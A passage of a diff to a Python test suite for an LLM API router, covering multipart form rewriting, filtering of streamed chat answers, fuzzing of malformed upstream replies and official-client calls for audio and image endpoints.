+    names = [part.get_param("name", header="Content-Disposition") for part in parts]
+    contents = [part.get_payload(decode=True) for part in parts]
+    return dict(zip(names, contents, strict=True))
+
+
+def encode_form(*parts: tuple[str, bytes]) -> bytes:
+    """A form with these Content-Disposition parameters and contents."""
+    top = b"--XX\r\nContent-Disposition: form-data; "
+    pieces = [top + b"%s\r\n\r\n%s\r\n" % (d.encode(), content) for d, content in parts]
+    return b"".join(pieces) + b"--XX--\r\n"
+
+
+MODEL_PART = ('name="model"', b"rule-talk")
+FILE_PART = ('name="file"; filename="a.wav"\r\nContent-Type: audio/wav', SOUND)
+FORMS = {
+    "model first": encode_form(MODEL_PART, FILE_PART),
+    "model last": encode_form(FILE_PART, MODEL_PART),
+    "model with a type": encode_form(
+        ('name="model"\r\nContent-Type: text/plain', b"rule-talk"), FILE_PART
+    ),
+    "a file that names a model": encode_form(
+        ('name="file"; filename="model"', b'name="model"\r\n\r\nrule-talk\r\n--X'), MODEL_PART
+    ),
+    "a file that talks of boundaries": encode_form(
+        ('name="file"; filename="f"', b"\r\n--XY\r\n--X\r\nXX--"), MODEL_PART
+    ),
+    "an empty file": encode_form(('name="file"; filename=""', b""), MODEL_PART),
+    "odd case": encode_form(MODEL_PART).replace(
+        b"Content-Disposition: form-data", b"content-DISPOSITION:form-data"
+    ),
+}
+
+
+@pytest.mark.parametrize("content", FORMS.values(), ids=FORMS)
+@pytest.mark.parametrize("boundary", ("XX", '"XX"'))
+def test_form_differs_by_its_model_only(content: bytes, boundary: str) -> None:
+    kind = f"multipart/form-data; boundary={boundary}"
+    got = tell("/v1/audio/transcriptions", content, Content_Type=kind)
+    assert (got.status, got.json) == (200, {"text": "heard"})
+    at = content.rindex(b"rule-talk")
+    assert latest().content == content[:at] + b"talk" + content[at + 9 :]
+
+
+def test_form_without_change_is_not_changed() -> None:
+    content = encode_form(('name="model"', b"talk"), FILE_PART)
+    kind = "multipart/form-data; boundary=XX"
+    assert tell("/v1/audio/transcriptions", content, Content_Type=kind).status == 200
+    assert latest().content == content
+    assert latest().get("Content-Type") == kind
+
+
+@each_way
+@each_openai
+def test_openai_transcription(sdk: Sdk, way: str) -> None:
+    got = sdk.call(
+        ways().url,
+        "audio.transcriptions.create",
+        model=f"{way}-talk",
+        file=("voice.wav", SOUND),
+        language="en",
+    )
+    assert got.text == "heard"
+    form = parse_form(latest())
+    assert (form["model"], form["language"]) == (b"talk", b"en")
+    assert form["file"] == SOUND
+
+
+@each_way
+@each_openai
+def test_openai_image_edit(sdk: Sdk, way: str) -> None:
+    got = sdk.call(
+        ways().url,
+        "images.edit",
+        model=f"{way}-talk",
+        prompt="a hat \u2728",
+        image=[(f"{kind}.{kind}", data) for kind, data in PICTURES.items()],
+    )
+    assert got.data[0].b64_json == "UE5H"
+    form = parse_form(latest())
+    assert (form["model"], form["prompt"]) == (b"talk", "a hat \u2728".encode())
+    assert form["image[]"] == PICTURES["webp"]
+
+
+# --- answers on their way -------------------------------------------------------------
+
+
+def filtered(pieces: Iterable[bytes], **rules: bool) -> bytes:
+    """What is left of a chat stream when its filter has seen these pieces."""
+    transform = chat_filter(**rules)
+    return b"".join([transform.feed(piece) for piece in pieces]) + transform.finish()
+
+
+@pytest.mark.parametrize("end", (b"\r\n", b"\r"))
+def test_line_ends_change_nothing_of_what_is_filtered(end: bytes) -> None:
+    said = stream_of("Hi", " there", "<think>", "no", "</think>", "a<b", "c", " <thi", "s", " x")
+    usage = event({"choices": [], "usage": {"prompt_tokens": 1}})
+    data = b"".join([*said[:-1], b": note\n\n", usage, said[-1]])
+    right = filtered([data]).replace(b"\n", end)
+    assert b"think" not in right and b'"usage"' not in right and right.count(b": note") == 1
+    assert {filtered(p) for p in every_split(data.replace(b"\n", end))} == {right}
+    assert {filtered(p) for p in every_split(data)} == {right.replace(end, b"\n")}
+
+
+@pytest.mark.parametrize("end", ENDS)
+def test_the_end_of_a_long_event_at_every_split(end: bytes, monkeypatch: Any) -> None:
+    small = dataclasses.replace(smolrouter.LIMITS, buffered_event=100)
+    monkeypatch.setattr(smolrouter, "LIMITS", small)
+    long, said = event("<think>" + "x" * 200), stream_of("<think>no</think>", "yes")
+    data = b"".join([long, *said]).replace(b"\n\n", end)
+    for at in range(110, len(long) + 12):
+        for size in (1, 2, 3, len(data)):
+            got = filtered([data[:at], *(data[i : i + size] for i in range(at, len(data), size))])
+            assert got.startswith(long[:-2] + end) and b"no" not in got and b"yes" in got
+
+
+def test_texts_without_number(monkeypatch: Any) -> None:
+    small = dataclasses.replace(smolrouter.LIMITS, texts_per_stream=50)
+    monkeypatch.setattr(smolrouter, "LIMITS", small)
+    events = [event(deltas(f"{n}<", index=n)[0]) for n in range(51)]
+    ended = [{"index": n, "delta": {"content": "b"}, "finish_reason": "stop"} for n in (3, 3, 4)]
+    transform = chat_filter()
+    held = b"".join(map(transform.feed, events[:50]))
+    assert b"<" not in held and len(transform.waiting) == len(transform.unsettled) == 50
+    assert transform.feed(event({"choices": ended})).count(b"<b") == 2
+    assert len(transform.waiting) == len(transform.unsettled) == 48
+    assert transform.feed(event("[DONE]")).count(b'"<"') == 48
+    assert not transform.waiting and not transform.unsettled and transform.settled()
+    transform.feed(event(deltas("<think>a", index=7)[0]))
+    assert transform.unsettled == {7} and not transform.waiting
+    with pytest.raises(smolrouter.BadGateway, match="more than 50 texts"):
+        transform.feed(events[50])
+
+
+class Counted(bytes):
+    """Octets that count how many of them were looked at by `find` and `rfind`."""
+
+    looked = 0
+
+    def find(self, word: bytes, start: int = 0, stop: int | None = None) -> int:  # type: ignore
+        stop = len(self) if stop is None else stop
+        at = super().find(word, start, stop)
+        self.looked += (at if at >= 0 else stop) - start
+        return at
+
+    def rfind(self, word: bytes, start: int = 0, stop: int | None = None) -> int:  # type: ignore
+        stop = len(self) if stop is None else stop
+        at = super().rfind(word, start, stop)
+        self.looked += stop - (at if at >= 0 else start)
+        return at
+
+
+@pytest.mark.parametrize("end", ENDS)
+@pytest.mark.parametrize("text", ("x", " <b>"))
+@pytest.mark.parametrize("key", ("content", "reasoning"))
+def test_no_octet_is_looked_at_often(end: bytes, text: str, key: str) -> None:
+    events = [event(doc) for doc in deltas("Hi", *["word"] * 19, text, key=key)] * 20
+    block = Counted(b"".join(events).replace(b"\n\n", end))
+    assert chat_filter().change_block(block) == block
+    assert 0 < block.looked < 12 * len(block)
+
+
+def test_held_text_leaves_with_its_event_s_own_lines() -> None:
+    delta = {"type": "content_block_delta", "index": 0, "delta": {"text": "a <"}}
+    stop = {"type": "content_block_stop", "index": 0}
+    pieces = [b"event: content_block_delta\n" + event(delta), b"event: x\n" + event(stop)]
+    content = {"model": stage().plays(stream_answer(pieces)), "messages": [], "stream": True}
+    got = request(shared().port, "POST", "/v1/messages", content)
+    assert got.content.count(b"event: content_block_delta\n") == 2
+    assert b'"text":"<"' in got.content
+
+
+@fuzz(
+    lambda st: {
+        "docs": st.lists(
+            json_values(st)
+            | st.fixed_dictionaries(
+                {},
+                optional={
+                    "choices": json_values(st)
+                    | st.lists(
+                        st.fixed_dictionaries(
+                            {},
+                            optional={
+                                "delta": json_values(st)
+                                | st.fixed_dictionaries(
+                                    {},
+                                    optional={
+                                        "content": json_values(st) | st.sampled_from(TEXT_BITS),
+                                        "tool_calls": json_values(st),
+                                        "reasoning_content": json_values(st),
+                                    },
+                                ),
+                                "index": json_values(st),
+                                "text": json_values(st),
+                                "finish_reason": json_values(st),
+                            },
+                        ),
+                        max_size=2,
+                    ),
+                    "usage": json_values(st),
+                    "timings": json_values(st),
+                    "error": json_values(st),
+                },
+            ),
+            max_size=4,
+        ),
+        "ollama": st.booleans(),
+        "stream": st.booleans(),
+    }
+)
+def test_fuzz_answers(docs: list, ollama: bool, stream: bool) -> None:
+    """An answer of any shape is relayed or is a BadGateway, never a fault of ours."""
+    dialect = smolrouter.OLLAMA if ollama else smolrouter.OPENAI
+    path = "/api/chat" if ollama else CHAT
+    body = dumps({"model": "m", "messages": [{"role": "user", "content": "x"}], "stream": stream})
+    asked = dialect.read(path, "", body)
+    timing = smolrouter.Timing(0.0, 1, 1)
+    plan = smolrouter.AnswerPlan(
+        asked, dialect, not ollama, smolrouter.FilterRules(True, True), True, True, lambda: timing
+    )
+    kind = "text/event-stream" if stream else "application/json"
+    transform = smolrouter.choose_transform(plan, 200, kind)
+    allowed = (smolrouter.BadGateway, *smolrouter.ODD_SHAPES)
+    with contextlib.suppress(*allowed):
+        for doc in docs or [{}]:
+            data = json.dumps(doc).encode()
+            transform.feed(b"data: " + data + b"\n\n" if stream else data)
+        transform.finish()
+
+
+ODD_DOCUMENTS = [
+    {"choices": [{"index": [0], "message": {"content": "<b>"}}]},
+    {"choices": "x", "usage": [1]},
+    {"choices": [{"message": "hi"}]},
+    {"choices": [{"message": {"content": "a", "tool_calls": [None]}}]},
+    {"choices": [{"message": {"tool_calls": [{"function": None}]}}]},
+    {"data": [None]},
+]
+
+
+@pytest.mark.parametrize("doc", ODD_DOCUMENTS, ids=range(len(ODD_DOCUMENTS)))
+@pytest.mark.parametrize("path", [CHAT, "/api/chat", "/api/embed"])
+def test_odd_document_is_no_internal_error(path: str, doc: Any) -> None:
+    model = stage().plays(json_answer(doc))
+    asked = {"model": model, "input": "a"} if "embed" in path else asking(path, model, False)
+    got = request(shared().port, "POST", path, asked)
+    assert got.status in (200, 502)
+    assert got.status == 200 or isinstance(got.json["error"], dict if path == CHAT else str)
+
+
+def test_cut_document_is_no_answer() -> None:
+    content = dumps(completion({}, "<think>a</think>x"))[:-5]
+    kind = [("Content-Type", "application/json"), ("Connection", "close")]
+    model = stage().plays([head(200, kind) + content, CLOSE])
+    assert ask(shared(), model).status == 502
+
+
+# --- OpenAI: the official client ------------------------------------------------------
 
 
 @each_way
@@ -6779,29 +4222,6 @@ def test_openai_embeddings(sdk: Sdk, way: str, form: str | None) -> None:
     assert [d.embedding for d in got.data] == [expected, expected]
     heard = latest().json
     assert (heard["model"], heard["input"], heard["dimensions"]) == ("vectors", ["a", "b"], 3)
-
-
-@each_openai
-def test_openai_model_list(sdk: Sdk) -> None:
-    names = [model.id for model in sdk.call(catalog().url, "models.list").data]
-    first = {f"alias-{name}" for name in [*SCRIPTS, "nobody"]} | {"old-name"}
-    assert set(names[: len(first)]) == first
-    assert {"talk", "tiny", "org/some-model"} <= set(names[len(first) :])
-    assert len(set(names)) == len(names)
-
-
-@each_openai
-@pytest.mark.parametrize("name", ("tiny", "alias-talk", "old-name", "org/some-model"))
-def test_openai_model_retrieve(sdk: Sdk, name: str) -> None:
-    got = sdk.call(catalog().url, "models.retrieve", name)
-    assert (got.id, got.object) == (name, "model")
-
-
-@each_openai
-def test_openai_unknown_model_retrieve(sdk: Sdk) -> None:
-    with pytest.raises(need("openai").NotFoundError) as caught:
-        sdk.call(catalog().url, "models.retrieve", "no-such-model")
-    assert "no-such-model" in caught.value.message
 
 
 @each_way
@@ -6905,19 +4325,6 @@ def test_openai_responses(sdk: Sdk, way: str, stream: bool) -> None:
 
 
 @each_openai
-def test_openai_answer_tells_how_it_was_routed(sdk: Sdk) -> None:
-    got = sdk.call(
-        ways().url,
-        "chat.completions.with_raw_response.create",
-        model="alias-talk",
-        messages=ASKED,
-    )
-    for name in ("Request-Id", "Upstream", "Model", "Route", "Attempts"):
-        assert got.headers.get(f"X-SmolRouter-{name}"), name
-    assert got.parse().choices[0].message.content == ANSWER
-
-
-@each_openai
 def test_openai_gzip_that_nobody_asked_for(sdk: Sdk) -> None:
     got = sdk.call(ways().url, "chat.completions.create", model="squeeze", messages=ASKED)
     assert got.choices[0].message.content == ANSWER
@@ -6937,7 +4344,40 @@ def test_openai_parallel_streams_are_not_mixed() -> None:
     assert in_loop(everyone()) == [f"You said: {text}" for text in said]
 
 
-# -- OpenAI: errors ----------------------------------------------------------------
+@each_way
+@each_openai
+@pytest.mark.parametrize("form", ("mp3", "wav"), ids=("length", "chunks"))
+def test_openai_speech_is_exact(sdk: Sdk, way: str, form: str) -> None:
+    got = sdk.call(
+        ways().url,
+        "audio.speech.create",
+        model=f"{way}-speak",
+        voice="echo",
+        input="hello",
+        response_format=form,
+    )
+    assert got.content == SOUND
+    assert got.response.headers["Content-Type"].startswith("audio/")
+
+
+@each_openai
+@whole_or_streamed
+def test_openai_client_of_an_ollama_server(sdk: Sdk, stream: bool) -> None:
+    got = sdk.call(
+        native().url,
+        "chat.completions.create",
+        model="rule-llama3",
+        messages=ASKED,
+        stream=stream,
+    )
+    choices = [p.choices[0] for p in (got if stream else [got])]
+    said = [(c.delta if stream else c.message).content or "" for c in choices]
+    assert "".join(said) == ANSWER
+    assert latest(gpu()).path == "/v1/chat/completions"
+    assert latest(gpu()).model == "llama3"
+
+
+# --- OpenAI: errors -------------------------------------------------------------------
 
 
 @each_way
@@ -7012,110 +4452,35 @@ def test_openai_stream_that_breaks(sdk: Sdk, way: str, name: str) -> None:
         assert caught.value.message == "out of memory"
 
 
-# -- OpenAI: forms, sound, other paths ---------------------------------------------
+BROKEN_STREAMS: dict[str, list[Step]] = {
+    "bad chunk-size": broken_stream(b"zz\r\n"),
+    "bad end of a chunk": broken_stream(b"2\r\n: XX", CLOSE),
+    "closed": broken_stream(CLOSE),
+    "reset": broken_stream(DROP),
+    "closed in a chunk": broken_stream(b"ff\r\ndata: {", CLOSE),
+    "closed in the last chunk": broken_stream(b"0\r\n", CLOSE),
+    "bytes fewer than the length": [
+        head(200, [("Content-Type", "text/event-stream"), ("Content-Length", "9999")]),
+        event(completion_events({}, "Hello")[1]), CLOSE],
+}  # fmt: skip
 
 
-def parse_form(heard: Received) -> dict[str, bytes]:
-    """The parts of a form; the last one of a name counts."""
-    top = f"Content-Type: {heard.get('Content-Type')}\r\n\r\n".encode()
-    parts: Any = email.message_from_bytes(top + heard.content).get_payload()
-    names = [part.get_param("name", header="Content-Disposition") for part in parts]
-    contents = [part.get_payload(decode=True) for part in parts]
-    return dict(zip(names, contents, strict=True))
+@pytest.mark.parametrize("path", [CHAT, "/v1/completions", "/api/chat", "/api/generate"])
+@pytest.mark.parametrize("name", BROKEN_STREAMS)
+def test_broken_stream_ends_in_an_error_of_its_dialect(name: str, path: str) -> None:
+    model = stage().plays(BROKEN_STREAMS[name])
+    got = request(shared().port, "POST", path, {**ASKS[path], "model": model, "stream": True})
+    assert got.status == 200
+    assert b"Hello" in got.content
+    assert b"[DONE]" not in got.content and b'"done":true' not in got.content
+    last = got.documents[-1]
+    if path.startswith("/v1"):
+        assert last["error"]["message"]
+    else:
+        assert isinstance(last["error"], str)
 
 
-@each_way
-@each_openai
-def test_openai_transcription(sdk: Sdk, way: str) -> None:
-    got = sdk.call(
-        ways().url,
-        "audio.transcriptions.create",
-        model=f"{way}-talk",
-        file=("voice.wav", SOUND),
-        language="en",
-    )
-    assert got.text == "heard"
-    form = parse_form(latest())
-    assert (form["model"], form["language"]) == (b"talk", b"en")
-    assert form["file"] == SOUND
-
-
-@each_way
-@each_openai
-def test_openai_image_edit(sdk: Sdk, way: str) -> None:
-    got = sdk.call(
-        ways().url,
-        "images.edit",
-        model=f"{way}-talk",
-        prompt="a hat \u2728",
-        image=[(f"{kind}.{kind}", data) for kind, data in PICTURES.items()],
-    )
-    assert got.data[0].b64_json == "UE5H"
-    form = parse_form(latest())
-    assert (form["model"], form["prompt"]) == (b"talk", "a hat \u2728".encode())
-    assert form["image[]"] == PICTURES["webp"]
-
-
-def encode_form(*parts: tuple[str, bytes]) -> bytes:
-    """A form with these Content-Disposition parameters and contents."""
-    top = b"--XX\r\nContent-Disposition: form-data; "
-    pieces = [top + b"%s\r\n\r\n%s\r\n" % (d.encode(), content) for d, content in parts]
-    return b"".join(pieces) + b"--XX--\r\n"
-
-
-MODEL_PART = ('name="model"', b"rule-talk")
-FILE_PART = ('name="file"; filename="a.wav"\r\nContent-Type: audio/wav', SOUND)
-FORMS = {
-    "model first": encode_form(MODEL_PART, FILE_PART),
-    "model last": encode_form(FILE_PART, MODEL_PART),
-    "model with a type": encode_form(
-        ('name="model"\r\nContent-Type: text/plain', b"rule-talk"), FILE_PART
-    ),
-    "a file that names a model": encode_form(
-        ('name="file"; filename="model"', b'name="model"\r\n\r\nrule-talk\r\n--X'), MODEL_PART
-    ),
-    "a file that talks of boundaries": encode_form(
-        ('name="file"; filename="f"', b"\r\n--XY\r\n--X\r\nXX--"), MODEL_PART
-    ),
-    "an empty file": encode_form(('name="file"; filename=""', b""), MODEL_PART),
-    "odd case": encode_form(MODEL_PART).replace(
-        b"Content-Disposition: form-data", b"content-DISPOSITION:form-data"
-    ),
-}
-
-
-@pytest.mark.parametrize("content", FORMS.values(), ids=FORMS)
-@pytest.mark.parametrize("boundary", ("XX", '"XX"'))
-def test_form_differs_by_its_model_only(content: bytes, boundary: str) -> None:
-    kind = f"multipart/form-data; boundary={boundary}"
-    got = tell("/v1/audio/transcriptions", content, Content_Type=kind)
-    assert (got.status, got.json) == (200, {"text": "heard"})
-    at = content.rindex(b"rule-talk")
-    assert latest().content == content[:at] + b"talk" + content[at + 9 :]
-
-
-def test_form_without_change_is_not_changed() -> None:
-    content = encode_form(('name="model"', b"talk"), FILE_PART)
-    kind = "multipart/form-data; boundary=XX"
-    assert tell("/v1/audio/transcriptions", content, Content_Type=kind).status == 200
-    assert latest().content == content
-    assert latest().get("Content-Type") == kind
-
-
-@each_way
-@each_openai
-@pytest.mark.parametrize("form", ("mp3", "wav"), ids=("length", "chunks"))
-def test_openai_speech_is_exact(sdk: Sdk, way: str, form: str) -> None:
-    got = sdk.call(
-        ways().url,
-        "audio.speech.create",
-        model=f"{way}-speak",
-        voice="echo",
-        input="hello",
-        response_format=form,
-    )
-    assert got.content == SOUND
-    assert got.response.headers["Content-Type"].startswith("audio/")
+# --- OpenAI and Anthropic: other paths ------------------------------------------------
 
 
 @each_way
@@ -7159,417 +4524,7 @@ def test_query_string_survives(path: str) -> None:
     assert latest().target == target
 
 
-# -- OpenAI: to the byte -----------------------------------------------------------
-
-HI = b'"messages":[{"role":"user","content":"hi"}]'
-BODIES = {
-    "compact": b'{"model":"%s",' + HI + b"}",
-    "spaces": b'\n { "model"\t:  "%s" ,\r\n' + HI + b' , "n" : 1 } \n',
-    "model last": b"{" + HI + b',"zeta":0,"alpha":1,"model":"%s"}',
-    "floats": b'{"model":"%s","a":1.0,"b":1e0,"c":1E+3,"d":0.10,"e":-0.0,' + HI + b"}",
-    "big numbers": b'{"model":"%s","seed":12345678901234567890123,"y":1e400,'
-    b'"pi":3.14159265358979323846264338327950288,' + HI + b"}",
-    "escapes": b'{"model":"%s","user":"\\u00e9\\uD83D\\ude00\\/\\u003cb>",' + HI + b"}",
-    "lone surrogate": b'{"model":"%s","user":"\\ud800",' + HI + b"}",
-    "utf-8": '{"model":"%s","user":"\xe9\U0001f600\u2028",'.encode() + HI + b"}",
-    "other models": b'{"metadata":{"model":"x","m":["model"]},"model":"%s",'
-    b'"tools":[{"model":"rule-talk"}],"u":"\\"model\\":\\"rule-talk\\"",' + HI + b"}",
-    "unknown fields": b'{"model":"%s","":null,"\\u0000":[],"deep":'
-    + b"[" * 90
-    + b"]" * 90
-    + b","
-    + HI
-    + b"}",
-    "not streamed": b'{"stream" : false, "model":"%s",' + HI + b"}",
-    "usage asked": b'{"stream":true,"model":"%s",'
-    b'"stream_options" : {"include_usage":true},' + HI + b"}",
-}
-
-
-@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
-def test_request_that_needs_no_change(body: bytes) -> None:
-    assert tell("/v1/chat/completions", body % b"talk").status == 200
-    assert latest().content == body % b"talk"
-
-
-@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
-@pytest.mark.parametrize("way", (*WAYS, "as it is in JSON"))
-def test_changed_model_is_the_only_difference(body: bytes, way: str) -> None:
-    asked = rb"rule\u002dt\u0061lk" if " " in way else f"{way}-talk".encode()
-    assert tell("/v1/chat/completions", body % asked).status == 200
-    assert latest().content == body % b"talk"
-
-
-@pytest.mark.parametrize("name", sorted(set(BODIES) - {"not streamed", "usage asked"}))
-def test_wish_for_usage_changes_nothing_else(name: str) -> None:
-    asked = re.sub(rb"\{", rb'{"stream":true,', BODIES[name] % b"rule-talk", count=1)
-    assert tell("/v1/chat/completions", asked).status == 200
-    sent = latest().content
-    document = json.loads(sent)
-    assert document.pop("stream_options") == {"include_usage": True}
-    expected = json.loads(asked) | {"model": "talk"}
-    assert list(document.items()) == list(expected.items())
-    numbers = re.compile(rb":\s*(-?[0-9][0-9.eE+-]*)")
-    assert numbers.findall(asked) == numbers.findall(sent)
-
-
-ANSWERS = {
-    "odd spacing": b'{ "id" : "x",\n"choices":[ {"index":0,"message":{"role":'
-    b'"assistant","content":"a\\u00e9 1 \\/ 2"},"x":1.50} ],"usage":null} \n',
-    "numbers": b'{"choices":[],"created":1.70e9,"big":123456789012345678901234567}',
-    "less than": b'{"choices":[{"index":0,"message":'
-    b'{"content":"a < b \\u003c c <b> <thin> <think"}}]}',
-    "not JSON": b"It works!",
-}
-
-
-@pytest.mark.parametrize("content", ANSWERS.values(), ids=ANSWERS)
-@pytest.mark.parametrize("prefix", ("", "rule-", "map-"))
-def test_answer_is_not_changed(prefix: str, content: bytes) -> None:
-    model = bench().plays(answer(content, kind="application/json"))
-    got = tell("/v1/chat/completions", chat(prefix + model))
-    assert (got.status, got.content) == (200, content)
-
-
-# -- OpenAI: usage -----------------------------------------------------------------
-
-TOP = b'data: {"id":"x","choices":[{"index":0,"delta":'
-WORD = TOP + b'{"content":"hi"},"finish_reason":null}]}\n\n'
-STOP = TOP + b'{},"finish_reason":"stop"}]}\n\n'
-DONE = b"data: [DONE]\n\n"
-USAGE = b'{"prompt_tokens":3,"completion_tokens":1,"total_tokens":4}'
-EXTRA = b'data: {"id":"x","choices":[],"usage":' + USAGE + b"}\n\n"
-SPACED = b'data:{ "usage" : ' + USAGE + b', "choices" : [ ] }\n\n'
-BESIDE = STOP.replace(b"]}", b'],"usage":' + USAGE + b"}")
-QUOTED = WORD.replace(b"hi", b'\\"choices\\":[],\\"usage\\":{}')
-PING = b": ping\n\n"
-SWALLOWED = {  # what the server says, what a client sees that did not ask
-    "plain": ([WORD, STOP, EXTRA, DONE], [WORD, STOP, DONE]),
-    "spaced": ([WORD, STOP, SPACED, DONE], [WORD, STOP, DONE]),
-    "without the extra event": ([WORD, STOP, DONE], [WORD, STOP, DONE]),
-    "usage beside a choice": ([WORD, BESIDE, DONE], [WORD, BESIDE, DONE]),
-    "comments": ([PING, WORD, STOP, EXTRA, DONE], [PING, WORD, STOP, DONE]),
-    "the words in the text": ([QUOTED, STOP, EXTRA, DONE], [QUOTED, STOP, DONE]),
-    "crlf": (
-        [e.replace(b"\n", b"\r\n") for e in (WORD, STOP, EXTRA, DONE)],
-        [e.replace(b"\n", b"\r\n") for e in (WORD, STOP, DONE)],
-    ),
-}
-
-
-@pytest.mark.parametrize("said, seen", SWALLOWED.values(), ids=SWALLOWED)
-@pytest.mark.parametrize("joined", (False, True), ids=("apart", "at once"))
-def test_extra_usage_is_swallowed(said: list[bytes], seen: list[bytes], joined: bool) -> None:
-    model = bench().plays(sse_answer([b"".join(said)] if joined else said))
-    got = tell("/v1/chat/completions", chat(model, stream=True))
-    assert latest().json["stream_options"] == {"include_usage": True}
-    assert got.content == b"".join(seen)
-
-
-def timing_server(received: Received) -> Iterable[Step]:
-    """llama.cpp: timings stand in the finish, or in the event that was asked for."""
-    timings = b'"timings":{"prompt_n":3,"predicted_n":2},'
-    if "stream_options" in received.json:
-        return sse_answer([WORD, STOP, EXTRA.replace(b'"usage"', timings + b'"usage"'), DONE])
-    return sse_answer([WORD, STOP.replace(b'"choices"', timings + b'"choices"'), DONE])
-
-
-def test_server_that_tells_timings_is_not_asked_for_usage(kept: Kept) -> None:
-    upstream = Upstream(timing_server)
-    settings = {**kept.settings, "DEFAULT_UPSTREAM": upstream.url}
-    with upstream, Router(settings) as router:
-        got = [ask(router, "m", stream=True).content for _ in range(3)]
-        assert kept.written(3) == 3
-    assert got[0] == WORD + STOP + DONE
-    assert got[1] == got[2] != got[0] and b'"predicted_n":2' in got[1]
-    rows = kept.ask("SELECT prompt_tokens, completion_tokens, tokens_estimated FROM requests")
-    assert rows[1:] == [(3, 2, 0)] * 2
-
-
-def test_server_that_tells_timings_no_more_is_asked_for_usage() -> None:
-    """Another one on its port, or behind one address for several."""
-    moods = [timing_server, timing_server, well_behaved, well_behaved]
-    upstream, asked = Upstream(lambda received: moods.pop(0)(received)), []
-    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
-        for _ in range(4):
-            assert ask(router, "m", stream=True).status == 200
-            asked.append("stream_options" in latest(upstream).json)
-    assert asked == [True, False, False, True]
-
-
-ERROR_EVENTS = {
-    "named": b'event: error\ndata: {"message":"no memory","code":500}\n\n',
-    "field": b'error: {"code":500,"message":"no memory"}\n\n',
-    "words": b"error: no memory\n\n",
-    "both": b'event:error\ndata: {"error":{"message":"no memory"}}\n\n',
-}
-
-
-@pytest.mark.parametrize("error", ERROR_EVENTS.values(), ids=ERROR_EVENTS)
-@pytest.mark.parametrize("stream", (True, False), ids=("lines", "whole"))
-def test_ollama_reads_error_events(error: bytes, stream: bool) -> None:
-    model = bench().plays(sse_answer([WORD, error]))
-    got = tell("/api/chat", {**chat(model), "stream": stream})
-    assert (got.documents[-1] if stream else got.json) == {"error": "no memory"}
-    assert got.status == (200 if stream else 502)
-
-
-@pytest.mark.parametrize("said", ([], [WORD]), ids=("nothing", "a word"))
-@pytest.mark.parametrize("stream", (True, False), ids=("lines", "whole"))
-def test_ollama_makes_no_end_for_a_stream_without_one(said: list[bytes], stream: bool) -> None:
-    model = bench().plays(sse_answer(said))
-    got = tell("/api/chat", {**chat(model), "stream": stream})
-    *words, last = got.documents if stream and said else [got.json]
-    assert last == {"error": "the stream ended before the answer was complete"}
-    assert [word["done"] for word in words] == [False] * (stream and len(said))
-    assert got.status == (200 if words else 502)
-
-
-@pytest.mark.parametrize("error", list(ERROR_EVENTS.values())[:2], ids=list(ERROR_EVENTS)[:2])
-def test_error_event_ends_a_stream(error: bytes) -> None:
-    model = bench().plays(sse_answer([WORD, error], chunked=False))
-    got = tell("/v1/chat/completions", chat(model, stream=True))
-    assert got.content == WORD + error
-
-
-@pytest.mark.parametrize("said", [s for s, _ in SWALLOWED.values()], ids=SWALLOWED)
-def test_usage_that_was_asked_for_arrives(said: list[bytes]) -> None:
-    model = bench().plays(sse_answer(said))
-    options = {"include_usage": True}
-    got = tell("/v1/chat/completions", chat(model, stream=True, stream_options=options))
-    assert got.content == b"".join(said)
-
-
-@pytest.mark.parametrize("options", ({}, {"include_usage": False}, {"other": 1}, None), ids=repr)
-def test_stream_options_without_usage_are_no_wish(options: Any) -> None:
-    model = bench().plays(sse_answer([WORD, STOP, EXTRA, DONE]))
-    got = tell("/v1/chat/completions", chat(model, stream=True, stream_options=options))
-    assert got.content == WORD + STOP + DONE
-    assert latest().json["stream_options"] == {**(options or {}), "include_usage": True}
-    assert latest().content.count(b'"stream_options"') == 1
-
-
-def test_whole_answers_are_not_asked_for_usage() -> None:
-    assert tell("/v1/chat/completions", chat("talk", stream=False)).status == 200
-    assert "stream_options" not in latest().json
-
-
-def old_server(received: Received) -> Iterable[Step]:
-    """A server from before stream_options."""
-    if "stream_options" in received.json:
-        message = "Unrecognized request argument supplied: stream_options"
-        return json_answer({"error": {"message": message}}, 400)
-    return well_behaved(received)
-
-
-def test_server_that_refuses_stream_options_is_remembered() -> None:
-    upstream = Upstream(old_server)
-    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
-        for _ in range(3):
-            body = chat("m", "hello", stream=True)
-            got = tell("/v1/chat/completions", body, router)
-            assert (got.status, got.text) == (200, ANSWER)
-        asked = ["stream_options" in r.json for r in upstream.requests if r.content]
-    assert asked == [True, False, False, False]
-
-
-@pytest.mark.parametrize("status", [400, 422])
-def test_server_that_echoes_a_bad_request_is_asked_for_usage_again(status: int) -> None:
-    def script(received: Received) -> Iterable[Step]:
-        if received.json["messages"][0]["content"] == "bad":
-            told = {"detail": "no such word in " + received.content.decode(), "x": "y" * (2 << 20)}
-            return json_answer(told, status)
-        return well_behaved(received)
-
-    with Upstream(script) as upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
-        for text in ("bad", "good"):
-            got = tell("/v1/chat/completions", chat("m", text, stream=True), router)
-            assert got.status == (status if text == "bad" else 200)
-            assert text == "good" or "no such word" in got.json["detail"]
-            assert "stream_options" in upstream.heard(f'"{text}"')[0].json
-    assert "stream_options" not in upstream.heard('"bad"')[1].json
-
-
-@whole_or_streamed
-def test_other_bad_requests_are_not_asked_again(stream: bool) -> None:
-    text = "an error that comes once"
-    got = tell("/v1/chat/completions", chat("error-400", text, stream=stream))
-    assert (got.status, got.content) == (400, dumps(own_error(400)))
-    assert len([r for r in bench().heard(text) if r.json["stream"] == stream]) == 1
-
-
-# -- OpenAI: the model list --------------------------------------------------------
-
-
-def model_names(router: Router, key: str = KEY) -> list[str]:
-    fields = [("Authorization", f"Bearer {key}")]
-    got = request(router.port, "GET", "/v1/models", fields=fields)
-    assert got.status == 200
-    assert got.json["object"] == "list"
-    assert all(model["object"] == "model" for model in got.json["data"])
-    return [model["id"] for model in got.json["data"]]
-
-
-def asked_for_models(upstream: Upstream) -> list[str | None]:
-    """The Authorization of each time that a server was asked for its models."""
-    paths = ("/v1/models", "/api/tags")
-    return [r.get("Authorization") for r in upstream.requests if r.path in paths]
-
-
-def test_model_list_is_the_union_and_cached() -> None:
-    here, there = Upstream(models=["one", "twin"]), Upstream(models=["two", "twin"])
-    servers = {"here": {"url": here.url, "api_key": "sk-of-here"}, "there": there.url}
